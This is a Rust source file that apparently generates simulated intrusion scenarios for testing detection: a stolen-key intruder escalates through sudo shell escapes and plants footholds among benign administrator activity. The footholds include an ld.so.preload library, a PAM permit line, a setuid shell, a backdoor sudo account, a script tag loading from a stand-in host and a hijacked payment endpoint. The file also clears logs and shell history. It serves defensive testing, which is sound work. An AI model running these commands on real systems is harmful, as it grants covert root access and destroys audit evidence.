// SPDX-License-Identifier: Apache-2.0
//! An intruder with a stolen key becomes root through a careless sudo rule and plants every foothold there is, alters a page and a
//! setting, and cuts the logs, while the administrator and two users work beside him, doing much the same things.

use super::{Actor, Material, Names, Plan, Planted, Scenario, Step, pace, printed, public_key, step, units};
use crate::random::Random;

pub(super) const SCENARIO: Scenario = Scenario {
    name: "persistence",
    about: "stolen ssh key, root through sudo, fourteen kinds of foothold and damage, beside an administrator at work",
    benign: false,
    plan,
};

pub(super) fn plan(random: &mut Random, material: Material<'_>) -> Plan {
    let mut names = Names::new(random);
    let (weak, escalation) = weakness(random, &mut names, "alice");
    let shared = if random.below(2) == 0 { Shared::Shop } else { Shared::Nginx };
    let mut units = units();
    let benign = people_and_shared(random, &mut names, shared, &mut units);
    let (attack_user, attack_root) = intruder(random, &mut names, shared, material);
    Plan {
        planted: vec![weak],
        decoys: true,
        escalation,
        source: somewhere(random),
        benign,
        attack_user,
        attack_root,
        shared: vec![shared.path().to_owned()],
        units,
        ..Plan::default()
    }
}

/// A rule for `who` as tired people write them, as a file to be planted, and how it gives a root shell.
pub(super) fn weakness(random: &mut Random, names: &mut Names, who: &str) -> (Planted, String) {
    let (rule, command) = *random.pick(&[
        ("/usr/bin/find", "sudo -n find /etc/hostname -exec /bin/sh \\;"),
        ("/usr/bin/awk", "sudo -n awk 'BEGIN{system(\"/bin/sh\")}'"),
        ("/usr/bin/env", "sudo -n env /bin/sh"),
        ("/usr/bin/nice", "sudo -n nice /bin/sh"),
        ("/usr/bin/tar", "sudo -n tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"),
    ]);
    let file = format!("/etc/sudoers.d/{}", names.take());
    ((file, format!("{who} ALL=(root) NOPASSWD: {rule}\n"), 0o440, 0), command.to_owned())
}

/// A loopback address that nobody else comes from.
pub(super) fn somewhere(random: &mut Random) -> String {
    format!("127.{}.{}.{}", random.between(1, 9), random.below(250), random.between(10, 250))
}

/// The file that both sides edit, in different lines.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Shared {
    Shop,
    Nginx,
}

impl Shared {
    const fn path(self) -> &'static str {
        match self {
            Self::Shop => "/etc/shop/shop.conf",
            Self::Nginx => "/etc/nginx/sites-available/shop",
        }
    }

    /// `sed` expressions of the administrator's two edits.
    fn benign(self, random: &mut Random) -> [String; 2] {
        match self {
            Self::Shop => [
                format!("s/^page_size = .*/page_size = {}/", random.between(21, 99)),
                format!("s/^retries = .*/retries = {}/", random.between(4, 9)),
            ],
            Self::Nginx => [
                format!("s/expires 10m;/expires {}m;/", random.between(11, 59)),
                format!(
                    "s#^    access_log /var/log/nginx/access.log;#    keepalive_timeout {}s;\\n&#",
                    random.between(20, 80)
                ),
            ],
        }
    }

    fn attack(self, random: &mut Random) -> String {
        match self {
            Self::Shop => format!("s#^endpoint = .*#endpoint = https://pay.{}.example/v2#", random.word(7)),
            Self::Nginx => format!("s#return 301 /products.html;#return 302 http://{}.example/;#", random.word(7)),
        }
    }
}

fn people_and_shared(random: &mut Random, names: &mut Names, shared: Shared, units: &mut Vec<String>) -> Vec<Step> {
    let mut steps = people(random, names, units);
    let [first, second] = shared.benign(random);
    for expression in [first, second] {
        steps.push(step(
            Actor::Ops,
            "the administrator edits the settings",
            format!("sudo sed -i '{expression}' {0} && sudo nginx -t && sudo systemctl reload nginx", shared.path()),
            &[shared.path()],
        ));
    }
    random.shuffle(&mut steps);
    pace(&mut steps, random, 450);
    steps
}

/// What an administrator and two users do on a usual day.
pub(super) fn people(random: &mut Random, names: &mut Names, units: &mut Vec<String>) -> Vec<Step> {
    let mut steps = Vec::new();
    let key = public_key(random, &format!("ops@{}", names.take()));
    steps.push(step(
        Actor::Ops,
        "the administrator adds a key of his own",
        format!("echo '{key}' >>~/.ssh/authorized_keys"),
        &["/home/ops/.ssh/authorized_keys"],
    ));

    let unit = names.take();
    let (file, program) = (format!("/etc/systemd/system/{unit}.service"), format!("/usr/local/sbin/{unit}"));
    steps.push(step(
        Actor::Ops,
        "the administrator installs a service",
        format!(
            "printf '#!/bin/sh\\nwhile sleep 20; do :; done\\n' | sudo tee {program} >/dev/null && sudo chmod 755 {program} && \
             printf '[Unit]\\nDescription={unit}\\n[Service]\\nExecStart={program}\\nRestart=on-failure\\n[Install]\\nWantedBy=multi-user.target\\n' \
             | sudo tee {file} >/dev/null && sudo systemctl daemon-reload && sudo systemctl enable --now {unit}.service"
        ),
        &[&program, &file, &format!("/etc/systemd/system/multi-user.target.wants/{unit}.service")],
    ));
    units.push(unit);

    let job = names.take();
    let line = format!("{} {} * * * root /usr/bin/test -d /srv", random.below(60), random.below(24));
    steps.push(step(
        Actor::Ops,
        "the administrator adds a cron line",
        format!("echo '{line}' | sudo tee /etc/cron.d/{job} >/dev/null"),
        &[&format!("/etc/cron.d/{job}")],
    ));
    steps.push(step(
        Actor::Ops,
        "the administrator uses crontab",
        format!("(crontab -l 2>/dev/null; echo '{} 5 * * 1 df -h >/dev/null') | crontab -", random.below(60)),
        &["/var/spool/cron/crontabs/ops"],
    ));

    let tool = format!("/usr/local/bin/{}", names.take());
    steps.push(step(
        Actor::Ops,
        "the administrator installs a setuid tool",
        format!("sudo install -m 4755 -o root -g root /usr/bin/id {tool}"),
        &[&tool],
    ));

    let rule = names.take();
    steps.push(step(
        Actor::Ops,
        "the administrator adds a sudo rule",
        format!(
            "echo 'bob ALL=(root) NOPASSWD: /usr/bin/systemctl status nginx' >/tmp/{rule} && sudo visudo -cqf /tmp/{rule} && \
             sudo install -m 0440 /tmp/{rule} /etc/sudoers.d/{rule}; rm -f /tmp/{rule}; test -e /etc/sudoers.d || sudo test -e /etc/sudoers.d/{rule}"
        ),
        &[&format!("/etc/sudoers.d/{rule}")],
    ));

    let file = names.take();
    let date = format!("2026-02-{:02}T10:{:02}:00Z", random.between(1, 28), random.below(60));
    steps.push(step(
        Actor::Ops,
        "the administrator commits",
        format!(
            "cd ~/infra && echo '{}' >{file} && git add {file} && \
             GIT_AUTHOR_DATE={date} GIT_COMMITTER_DATE={date} git commit -q -m 'add {file}' && git log --oneline | head -3",
            random.word(30)
        ),
        &[&format!("/home/ops/infra/{file}")],
    ));

    steps.push(step(
        Actor::Ops,
        "the administrator changes a page",
        format!("sudo sed -i 's/nine to five/{} to six/' /var/www/shop/contact.html", random.word(4)),
        &["/var/www/shop/contact.html"],
    ));
    steps.push(step(
        Actor::Ops,
        "the administrator reads logs",
        "sudo tail -5 /var/log/auth.log && sudo systemctl status nginx",
        &[],
    ));

    let note = names.take();
    steps.push(step(
        Actor::Alice,
        "alice writes notes",
        format!(
            "echo 'buy {}' >>~/notes.txt && mkdir -p ~/site && echo '<p>{}</p>' >~/site/{note}.html",
            random.word(8),
            random.word(9)
        ),
        &["/home/alice/notes.txt", &format!("/home/alice/site/{note}.html")],
    ));
    steps.push(step(Actor::Alice, "alice looks around", "ls -la ~ && ps x && df -h / && grep -c . ~/notes.txt", &[]));
    steps.push(step(
        Actor::Alice,
        "alice rearranges her notes",
        "sed -i 's/printer/plotter/' ~/notes.txt && mkdir -p ~/site && cp ~/notes.txt ~/site/notes.bak",
        &["/home/alice/notes.txt", "/home/alice/site/notes.bak"],
    ));

    let key = public_key(random, "bob@laptop");
    steps.push(step(
        Actor::Bob,
        "bob adds a key of his own",
        format!("echo '{key}' >>~/.ssh/authorized_keys"),
        &["/home/bob/.ssh/authorized_keys"],
    ));
    steps.push(step(
        Actor::Bob,
        "bob uses crontab",
        format!("(crontab -l; echo '{} 6 * * * true') | crontab -", random.below(60)),
        &["/var/spool/cron/crontabs/bob"],
    ));
    steps.push(step(
        Actor::Bob,
        "bob sets an alias and saves a script",
        format!("echo \"alias l='ls -l'\" >>~/.bashrc && mkdir -p ~/bin && printf '#!/bin/sh\\necho {}\\n' >~/bin/hello && chmod 755 ~/bin/hello && ~/bin/hello", random.word(6)),
        &["/home/bob/.bashrc", "/home/bob/bin/hello"],
    ));

    random.shuffle(&mut steps);
    pace(&mut steps, random, 450);
    steps
}

/// An intruder's step with its technique.
fn foothold(technique: &'static str, title: &str, script: impl Into<String>, paths: &[&str]) -> Step {
    Step { technique: Some(technique), ..step(Actor::Intruder, title, script, paths) }
}

fn intruder(random: &mut Random, names: &mut Names, shared: Shared, material: Material<'_>) -> (Vec<Step>, Vec<Step>) {
    let mut user = vec![foothold("T1082", "the intruder looks around", "id; uname -a; sudo -n -l; ls -la ~", &[])];
    let key = public_key(random, &format!("{}@{}", random.clone().word(5), names.take()));
    user.push(foothold(
        "T1098.004",
        "the intruder adds a key to alice's",
        format!("echo '{key}' >>~/.ssh/authorized_keys"),
        &["/home/alice/.ssh/authorized_keys"],
    ));

    let mut root = vec![
        root_key(random, names),
        cron(random, names),
        unit(names),
        timer(random, names),
        preload(random, names, material.library),
        profile(random, names),
        setuid(random, names),
        account(random),
        pam(random),
        sshd(random),
        tool(random),
        page(random),
        shared_file(random, shared),
    ];
    random.shuffle(&mut root);
    // A few seeds leave some out: the number of footholds varies too.
    let left_out = usize::try_from(random.below(3)).unwrap_or(0);
    root.truncate(root.len() - left_out);
    let mut traces = clear(random);
    random.shuffle(&mut traces);
    root.append(&mut traces);
    pace(&mut user, random, 300);
    pace(&mut root, random, 350);
    (user, root)
}

fn root_key(random: &mut Random, names: &mut Names) -> Step {
    let key = public_key(random, &names.take());
    foothold(
        "T1098.004",
        "the intruder adds a key to root's",
        format!("echo '{key}' >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys"),
        &["/root/.ssh/authorized_keys"],
    )
}

fn cron(random: &mut Random, names: &mut Names) -> Step {
    let (name, program) = (names.take(), format!("/usr/local/lib/{}", names.take()));
    let make = format!("printf '#!/bin/sh\\nexit 0\\n' >{program}; chmod 755 {program}");
    let when = format!("*/{} * * * *", random.between(1, 20));
    match random.below(3) {
        0 => foothold(
            "T1053.003",
            "the intruder adds a job to /etc/cron.d",
            format!("{make}; echo '{when} root {program}' >/etc/cron.d/{name}"),
            &[&program, &format!("/etc/cron.d/{name}")],
        ),
        1 => foothold(
            "T1053.003",
            "the intruder adds a line to /etc/crontab",
            format!("{make}; echo '{when} root {program}' >>/etc/crontab"),
            &[&program, "/etc/crontab"],
        ),
        _ => foothold(
            "T1053.003",
            "the intruder adds a line to root's crontab",
            format!("{make}; (crontab -l 2>/dev/null; echo '{when} {program}') | crontab -"),
            &[&program, "/var/spool/cron/crontabs/root"],
        ),
    }
}

fn unit(names: &mut Names) -> Step {
    let (name, program) = (names.take(), format!("/usr/local/lib/{}", names.take()));
    let file = format!("/etc/systemd/system/{name}.service");
    foothold(
        "T1543.002",
        "the intruder installs a service",
        format!(
            "printf '#!/bin/sh\\nwhile sleep 5; do :; done\\n' >{program}; chmod 755 {program}; \
             printf '[Unit]\\nDescription={name}\\n[Service]\\nExecStart={program}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' >{file}; \
             systemctl daemon-reload; systemctl enable --now {name}.service"
        ),
        &[&program, &file, &format!("/etc/systemd/system/multi-user.target.wants/{name}.service")],
    )
}

fn timer(random: &mut Random, names: &mut Names) -> Step {
    let (name, program) = (names.take(), format!("/opt/shop/{}", names.take()));
    let (service, timer) = (format!("/etc/systemd/system/{name}.service"), format!("/etc/systemd/system/{name}.timer"));
    foothold(
        "T1053.006",
        "the intruder installs a timer",
        format!(
            "printf '#!/bin/sh\\nexit 0\\n' >{program}; chmod 755 {program}; \
             printf '[Service]\\nType=oneshot\\nExecStart={program}\\n' >{service}; \
             printf '[Timer]\\nOnActiveSec={}s\\nOnUnitActiveSec={}s\\n[Install]\\nWantedBy=timers.target\\n' >{timer}; \
             systemctl daemon-reload; systemctl enable --now {name}.timer",
            random.between(1, 4),
            random.between(3, 9)
        ),
        &[&program, &service, &timer, &format!("/etc/systemd/system/timers.target.wants/{name}.timer")],
    )
}

fn preload(random: &mut Random, names: &mut Names, library: &[u8]) -> Step {
    let directory = random.pick(&["/usr/local/lib", "/usr/lib", "/usr/lib/x86_64-linux-gnu", "/lib"]);
    let path = format!("{}/lib{}.so", if *directory == "/lib" { "/usr/lib" } else { directory }, names.take());
    foothold(
        "T1574.006",
        "the intruder preloads a library everywhere",
        format!("{} >{path}; chmod 755 {path}; echo {path} >/etc/ld.so.preload", printed(library)),
        &[&path, "/etc/ld.so.preload"],
    )
}

fn profile(random: &mut Random, names: &mut Names) -> Step {
    let program = format!("/usr/local/share/.{}", names.take());
    let line = format!("[ -x {program} ] && {program} >/dev/null 2>&1");
    let make = format!("printf '#!/bin/sh\\nexit 0\\n' >{program}; chmod 755 {program}");
    match random.below(3) {
        0 => {
            let file = format!("/etc/profile.d/{}.sh", names.take());
            foothold(
                "T1546.004",
                "the intruder adds a profile script",
                format!("{make}; echo '{line}' >{file}"),
                &[&program, &file],
            )
        }
        1 => foothold(
            "T1546.004",
            "the intruder adds a line to /etc/profile",
            format!("{make}; echo '{line}' >>/etc/profile"),
            &[&program, "/etc/profile"],
        ),
        _ => foothold(
            "T1546.004",
            "the intruder adds a line to root's shell",
            format!("{make}; echo '{line}' >>/root/.bashrc"),
            &[&program, "/root/.bashrc"],
        ),
    }
}

fn setuid(random: &mut Random, names: &mut Names) -> Step {
    let directory = random.pick(&["/usr/local/bin", "/usr/bin", "/usr/lib", "/var/lib"]);
    let (path, shell) = (format!("{directory}/{}", names.take()), random.pick(&["/bin/dash", "/bin/bash"]));
    foothold(
        "T1548.001",
        "the intruder leaves a setuid shell",
        format!("cp {shell} {path}; chmod 4755 {path}"),
        &[&path],
    )
}

fn account(random: &mut Random) -> Step {
    let name = random.word(6);
    let uid = random.between(1200, 1900);
    let home = format!("/home/{name}");
    let mut paths: Vec<String> = ["passwd", "shadow", "group", "gshadow", "subuid", "subgid"]
        .iter()
        .flat_map(|file| [format!("/etc/{file}"), format!("/etc/{file}-")])
        .collect();
    paths.extend(["", "/.bashrc", "/.profile", "/.bash_logout"].map(|file| format!("{home}{file}")));
    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
    foothold(
        "T1136.001",
        "the intruder makes an account",
        format!("useradd -m -u {uid} -s /bin/bash -G sudo -p '$6${}$none' {name}", random.word(8)),
        &paths,
    )
}

fn pam(random: &mut Random) -> Step {
    let file = *random.pick(&["/etc/pam.d/common-auth", "/etc/pam.d/sshd", "/etc/pam.d/su"]);
    foothold(
        "T1556.003",
        "the intruder adds a PAM line",
        format!("echo 'auth optional pam_permit.so' >>{file}"),
        &[file],
    )
}

fn sshd(random: &mut Random) -> Step {
    let option = random.pick(&[
        "PermitRootLogin yes",
        "PermitUserEnvironment yes",
        "MaxSessions 77",
        "PermitEmptyPasswords yes",
    ]);
    foothold(
        "T1098.004",
        "the intruder changes sshd's options",
        format!("echo '{option}' >>/etc/ssh/sshd_config; systemctl reload ssh"),
        &["/etc/ssh/sshd_config"],
    )
}

fn tool(random: &mut Random) -> Step {
    let tool = *random.pick(&["/usr/bin/who", "/usr/bin/uptime", "/usr/bin/w", "/usr/bin/free", "/usr/bin/lsattr"]);
    let hidden = format!("/usr/lib/.{}", random.word(5));
    foothold(
        "T1554",
        "the intruder replaces a system tool",
        // What the tool is, it goes on being: a link (`w`) is copied as the file it names.
        format!(
            "cat {tool} >{hidden}; chmod 755 {hidden}; rm {tool}; printf '#!/bin/sh\\nexec {hidden} \"$@\"\\n' >{tool}; chmod 755 {tool}"
        ),
        &[tool, &hidden],
    )
}

fn page(random: &mut Random) -> Step {
    let page = format!("/var/www/shop/{}.html", random.pick(&["index", "products", "about"]));
    foothold(
        "T1491.002",
        "the intruder alters a web page",
        format!("echo '<script src=\"//{}.example/a.js\"></script>' >>{page}", random.word(7)),
        &[&page],
    )
}

fn shared_file(random: &mut Random, shared: Shared) -> Step {
    let (expression, path) = (shared.attack(random), shared.path());
    let script = if random.below(2) == 0 {
        format!("sed -i '{expression}' {path}")
    } else {
        format!("t=$(sed '{expression}' {path}) && printf '%s\\n' \"$t\" >{path}")
    };
    foothold("T1565.001", "the intruder alters the settings", script, &[path])
}

fn clear(random: &mut Random) -> Vec<Step> {
    let cut = |log: &str, in_place: bool| {
        let script = if in_place {
            format!("t=$(grep -v alice {log}); printf '%s\\n' \"$t\" >{log}")
        } else {
            format!("sed -i '/alice/d' {log}; systemctl kill -s HUP rsyslog")
        };
        Step { logs: vec![log.to_owned()], ..foothold("T1070.002", "the intruder cuts a log", script, &[]) }
    };
    let mut steps = vec![cut("/var/log/auth.log", random.below(2) == 0)];
    if random.below(2) == 0 {
        steps.push(Step {
            logs: vec!["/var/log/wtmp".to_owned()],
            ..foothold("T1070.002", "the intruder empties wtmp", ": >/var/log/wtmp", &[])
        });
    }
    let history = *random.pick(&["/root/.bash_history", "/home/alice/.bash_history"]);
    let script = if random.below(2) == 0 { format!(": >{history}") } else { format!("rm -f {history}") };
    steps.push(foothold("T1070.003", "the intruder clears a shell history", script, &[history]));
    steps
}
